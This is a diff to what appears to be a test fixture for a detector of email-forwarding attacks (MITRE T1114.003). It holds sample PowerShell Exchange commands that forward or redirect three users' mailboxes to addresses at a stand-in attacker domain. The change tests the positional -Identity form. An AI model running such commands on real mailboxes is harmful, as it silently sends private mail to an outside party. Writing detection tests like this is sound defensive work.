@@ -26,7 +26,7 @@ THREE_MAILBOXES = {
     "ScriptBlockText": (
         "New-InboxRule -Name keep -Mailbox alice@contoso.com -ForwardTo drop1@evil.example\n"
         "New-InboxRule -Name team -Mailbox bob@contoso.com -RedirectTo drop2@evil.example\n"
-        "Set-Mailbox -Identity carol@contoso.com -ForwardingSmtpAddress smtp:drop3@evil.example\n"),
+        "Set-Mailbox carol@contoso.com -ForwardingSmtpAddress smtp:drop3@evil.example\n"),  # -Identity by position
 }
 EXPECTED_THREE = [  # (rule, mailbox, destination), in script order
     ("t1114_003_inbox_rule_forward_cmdlet", "alice@contoso.com", "drop1@evil.example"),
